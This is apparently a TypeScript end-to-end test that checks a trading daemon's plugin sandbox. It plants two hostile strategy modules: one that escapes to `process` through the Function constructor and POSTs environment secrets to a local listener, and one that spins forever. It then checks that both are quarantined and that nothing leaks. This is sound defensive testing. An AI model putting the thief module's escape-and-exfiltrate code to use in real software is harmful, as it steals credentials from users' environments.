/**
 * The built daemon in paper mode with the API secret in its env file and two hostile `.js`
 * modules dropped straight into `dist/strategies/`: one reaches for `process` with the
 * constructor trick and posts what it finds to a listener on 127.0.0.1; the other loops forever
 * at its top level. Start-up completes, both are quarantined with their reason, the grid trades,
 * the listener receives nothing and no output holds the secret.
 */
import { rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, freePort, spawnDaemon, status, tempDir, writeConfig, type DaemonProcess } from '../support/daemon-process.js';
import { eventually } from '../support/eventually.js';

const WAIT = { timeoutMs: 60_000, everyMs: 250 };
const SECRET = 'sandbox-e2e-secret-0f9a3c';
const tag = `${process.pid}`;
const thief = `hostile-thief-${tag}`;
const spinner = `hostile-spin-${tag}`;
const dist = path.join(ROOT, 'dist/strategies');
const api = "'../src/strategy-api/index.js'";

const thiefSource = (port: number): string => `import { defineStrategy, z } from ${api};
let env = 'unreached';
try {
  env = JSON.stringify((() => 0).constructor('return process')().env);
} catch {
  // closed: try again in the hook
}
export default defineStrategy({
  name: 'thief',
  params: z.strictObject({}),
  schedule: '* * * * * *',
  async onTick() {
    const proc = (() => 0).constructor('return process')();
    await fetch('http://127.0.0.1:${port}/', { method: 'POST', body: env + JSON.stringify(proc.env) });
    return [];
  },
});
`;

const spinSource = `import { defineStrategy, z } from ${api};
for (;;) {
  // never loads
}
export default defineStrategy({ name: 'spin', params: z.strictObject({}), schedule: '* * * * * *', onTick: () => [] });
`;

let listener: Server;
let listenerPort = 0;
const received: string[] = [];
let running: DaemonProcess | null = null;

beforeAll(async () => {
  listener = createServer((socket) => {
    received.push('connection');
    socket.on('data', (d: Buffer) => received.push(d.toString()));
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  listenerPort = (listener.address() as AddressInfo).port;
  writeFileSync(path.join(dist, `${thief}.js`), thiefSource(listenerPort));
  writeFileSync(path.join(dist, `${spinner}.js`), spinSource);
});
afterAll(async () => {
  for (const m of [thief, spinner]) rmSync(path.join(dist, `${m}.js`), { force: true });
  await new Promise<void>((r) => listener.close(() => r()));
});
afterEach(() => {
  running?.child.kill('SIGKILL');
  running = null;
});

const config = {
  markets: { BTC_USDT: { tick: '0.01', step: '0.000001', minAmount: '0.00001', minTotalQuote: '5.05', maxPositionBase: '1', maxOpenOrders: 20 } },
  strategies: [
    { module: 'spot-grid', id: 'grid', budgetQuote: '5000', schedule: '* * * * * *', params: { market: 'BTC_USDT', levels: 2, spacingPct: '0.05', orderAmount: '0.002', postOnly: false } },
    { module: thief, id: 'thief', budgetQuote: '1', params: {} },
    { module: spinner, id: 'spinner', budgetQuote: '1', params: {} },
  ],
  risk: { maxNotionalPerOrderQuote: '500' },
  plugins: { errorBudget: 1 },
  sandbox: { memoryMb: 128, loadDeadlineMs: 5_000 },
  paper: { seed: 7, balances: { USDT: '20000', BTC: '1' }, startPrices: { BTC_USDT: '60000', BTC_PERP: '60000' }, volatility: '0.002', volumePerStep: '1', priceStepMs: 100 },
};

interface Status {
  quarantined: { strategyId: string; reason: string }[];
  orders: { byState: Record<string, number> };
}

describe('the built daemon with hostile strategies in dist/strategies', () => {
  it('starts, quarantines both with their reason, trades the grid, and sends nothing anywhere', async () => {
    const dir = tempDir();
    const envFile = path.join(dir, '.env.live');
    writeFileSync(envFile, `API_KEY=sandbox-e2e-key\nAPI_SECRET=${SECRET}\n`, { mode: 0o600 });
    const dataDir = tempDir();
    const port = await freePort();
    running = spawnDaemon({ BOT_CONFIG: writeConfig(config, dir), BOT_DATA_DIR: dataDir, BOT_HTTP_PORT: String(port), ENV_FILE: envFile }, dir);

    const st = await eventually(async () => {
      const s = (await status(dataDir)) as unknown as Status;
      const placed = Object.values(s.orders.byState).reduce((a, b) => a + b, 0);
      return s.quarantined.length === 2 && placed > 0 ? s : undefined;
    }, 'both hostile instances quarantined while the grid trades', WAIT);
    const reasons = Object.fromEntries(st.quarantined.map((q) => [q.strategyId, q.reason]));
    expect(reasons['spinner']).toBe('strategy spinner: the module did not load within its deadline (sandbox.loadDeadlineMs = 5000)');
    expect(reasons['thief']).toMatch(/thief onTick threw: .*Function\.prototype\.constructor is not a valid constructor/);
    expect(reasons['grid']).toBeUndefined();

    expect(received).toEqual([]);
    expect(running.stdout() + running.stderr()).not.toContain(SECRET);
    running.child.kill('SIGINT');
    expect((await running.exited).code).toBe(0);
    expect(received).toEqual([]);
  });
});
